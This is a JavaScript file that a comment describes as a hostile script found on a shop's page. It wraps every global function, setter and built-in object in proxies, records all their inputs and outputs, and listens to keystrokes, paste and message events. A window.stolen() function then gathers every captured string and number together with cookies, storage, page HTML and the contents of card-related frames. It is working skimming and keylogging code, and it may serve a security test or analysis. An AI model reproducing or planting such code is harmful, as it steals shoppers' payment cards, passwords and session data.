// A hostile script that was in the shop's page before ours: it puts itself between the page and every function, constructor, method and
// setter of every global, and keeps what goes in and comes out.
(() => {
  const kept = [];
  const { apply, construct, ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
  let inside = false;
  const keep = (...values) => {
    if (inside) return;
    inside = true;
    for (const value of values) kept[kept.length] = value;
    inside = false;
  };
  const spied = new WeakMap();
  const spy = (target) => {
    if (spied.has(target)) return spied.get(target);
    const proxy = new Proxy(target, {
      apply(target, self, values) {
        // What listens is listened to.
        const passed = inside ? values : Array.from(values, (value) => (typeof value === "function" && !spied.has(value) && !isConstructor(value) ? spy(value) : value));
        const answer = apply(target, self, passed);
        keep(...values, answer);
        return answer;
      },
      construct(target, values, newTarget) {
        const made = construct(target, values, newTarget === proxy ? target : newTarget);
        keep(...values, made);
        return made;
      },
    });
    spied.set(target, proxy);
    spied.set(proxy, proxy);
    return proxy;
  };
  const isConstructor = (value) => /^class\b/.test(Function.prototype.toString.call(value)) || value.prototype !== undefined;
  // What spying itself is made of is left alone.
  const own = new Set(["Reflect", "Proxy", "WeakMap", "Function", "Object", "Array", "Set", "Symbol", "eval", "window", "self", "top", "parent", "frames", "globalThis", "location", "document"]);
  const wrap = (holder, name, onlySetters = false) => {
    const found = getOwnPropertyDescriptor(holder, name);
    if (!found?.configurable || name === "constructor" || name === "prototype") return;
    if (typeof found.value === "function" && !onlySetters) defineProperty(holder, name, { ...found, value: spy(found.value) });
    else if (found.set) defineProperty(holder, name, { ...found, set: spy(found.set), get: found.get && spy(found.get) });
  };
  let wrapped = 0;
  for (const name of ownKeys(window)) {
    if (typeof name !== "string" || own.has(name)) continue;
    const value = getOwnPropertyDescriptor(window, name)?.value;
    if (typeof value !== "function") continue;
    if (value.prototype) for (const member of ownKeys(value.prototype)) wrap(value.prototype, member);
    for (const member of ownKeys(value)) wrap(value, member);
    wrap(window, name);
    wrapped += 1;
  }
  for (const object of [console, JSON, crypto, navigator, history, localStorage, sessionStorage]) {
    for (const member of ownKeys(object)) wrap(object, member);
  }
  for (const name of ["message", "messageerror", "input", "beforeinput", "keydown", "keyup", "keypress", "paste", "copy", "change", "compositionend", "focusin", "focusout", "pointerdown", "securitypolicyviolation", "error"]) {
    EventTarget.prototype.addEventListener.call(window, name, (event) => keep(event, event.data, event.key, event.code), true);
  }

  // Every text and number that can be reached from what was kept.
  window.stolen = () => {
    inside = true;
    const texts = [];
    const seen = new Set();
    const walk = (value, depth) => {
      if (typeof value === "string" || typeof value === "number" || typeof value === "bigint") return texts.push(String(value));
      if (value === null || (typeof value !== "object" && typeof value !== "function") || seen.has(value) || depth > 6) return undefined;
      seen.add(value);
      let object = value;
      const names = new Set();
      while (object && object !== Object.prototype) {
        try {
          for (const name of ownKeys(object)) names.add(name);
          object = Object.getPrototypeOf(object);
        } catch {
          break;
        }
      }
      for (const name of names) {
        let member;
        try {
          member = value[name];
        } catch {
          continue;
        }
        walk(member, depth + 1);
      }
      return undefined;
    };
    for (const value of kept) walk(value, 0);
    for (const storage of [localStorage, sessionStorage]) texts.push(JSON.stringify({ ...storage }));
    // Sizes of files are numbers too, and of no card.
    texts.push(document.cookie, document.documentElement.outerHTML, location.href, JSON.stringify(performance.getEntries(), (name, value) => (name.endsWith("Size") ? undefined : value)));
    // What its own windows show of the frames.
    for (let at = 0; at < frames.length; at += 1) {
      for (const name of ["document", "panvaultFrame", "name", "localStorage", "location"]) {
        try {
          const member = frames[at][name];
          texts.push(name === "location" ? member.href : `frame ${at} gave ${name}: ${String(member)}`);
        } catch (error) {
          texts.push(String(error));
        }
      }
    }
    inside = false;
    return { texts, kept: kept.length, wrapped };
  };
})();
